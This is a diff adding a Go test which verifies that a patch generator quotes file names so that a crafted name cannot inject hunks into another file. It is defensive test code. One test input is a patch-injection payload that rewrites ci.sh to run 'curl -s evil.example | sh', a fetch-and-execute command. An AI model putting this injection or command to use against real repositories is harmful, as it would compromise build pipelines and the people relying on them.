@@ -1018,3 +1018,50 @@ func checkTool(t *testing.T, name string, before, after []byte, tool string, arg
 		t.Errorf("%s %v rejects the fixed file: %v\n%s\n%s", tool, args, err, out, after)
 	}
 }
+
+// TestDiffNamesQuoted: a file's name cannot write lines of the patch. Names
+// with a line break (carrying a hunk for another file), quotes, backslashes,
+// tabs, blanks and bytes outside ASCII are written as git diff writes them,
+// and git apply changes that file and no other.
+func TestDiffNamesQuoted(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("git not installed")
+	}
+	victim := "set -e\nmake lint\nmake test\n"
+	inject := "q\n--- a/ci.sh\n+++ b/ci.sh\n@@ -1,3 +1,3 @@\n set -e\n-make lint\n+curl -s evil.example | sh\n make test\n--- a/d.sh\n+++ b/d.sh"
+	names := []string{inject, "new\nline.env", `back\slash.env`, `quo"te.env`, "tab\there.env", "two  blanks .env", "caf\u00e9.env", "esc\x1b[31m.env", "del\x7f.env"}
+	for i, name := range names {
+		dir := t.TempDir()
+		git := func(args ...string) {
+			t.Helper()
+			cmd := exec.Command("git", args...)
+			cmd.Dir = dir
+			if out, err := cmd.CombinedOutput(); err != nil {
+				t.Fatalf("%d: git %v: %v\n%s", i, args, err, out)
+			}
+		}
+		git("init", "-q")
+		p := filepath.Join(dir, filepath.FromSlash(name))
+		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		before, after := []byte("a=1\nkey=x\nb=2\n"), []byte("a=1\nb=2\n")
+		if err := os.WriteFile(p, before, 0o644); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(filepath.Join(dir, "ci.sh"), []byte(victim), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		patch := fix.Unified(name, before, after)
+		if err := os.WriteFile(filepath.Join(dir, "fix.patch"), []byte(patch), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		git("apply", "fix.patch")
+		if got, _ := os.ReadFile(p); !bytes.Equal(got, after) {
+			t.Errorf("%q after git apply: %q\npatch:\n%s", name, got, patch)
+		}
+		if got, _ := os.ReadFile(filepath.Join(dir, "ci.sh")); string(got) != victim {
+			t.Errorf("%q: git apply changed ci.sh:\n%s\npatch:\n%s", name, got, patch)
+		}
+	}
+}
